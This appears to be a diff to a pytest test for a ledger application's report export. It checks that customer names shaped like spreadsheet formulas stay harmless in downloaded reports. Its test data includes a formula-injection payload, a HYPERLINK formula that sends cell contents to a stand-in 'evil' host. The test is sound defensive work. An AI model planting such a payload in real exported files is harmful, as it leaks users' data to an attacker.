@@ -198,7 +198,7 @@ FORMULAS = ('=HYPERLINK("http://evil/"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)")
 
 
 @pytest.mark.parametrize("name", FORMULAS)
-@pytest.mark.parametrize("report", ["103", "104", "110", "125"])
+@pytest.mark.parametrize("report", ["103", "110", "125"])
 def test_no_name_is_a_formula_and_every_amount_stays_one(
     api, ledger, buy, pay, take_back, report, name
 ):
@@ -206,7 +206,7 @@ def test_no_name_is_a_formula_and_every_amount_stays_one(
     one = buy("100.00", number="852")
     assert api.patch(one["customer"], {"name": name}).status_code == 200
     pay(one, "150.00")
-    take_back(one, "10.00")
+    take_back(one, "10.00", "K-1")
     ordered = api.post(f"{FILES}/ledger-report-{report}/order-report", {"reportDate": "2026-06-08"})
     assert ordered.status_code == 201, ordered.text
     text = download(api, ordered.data).content.decode("cp1252")
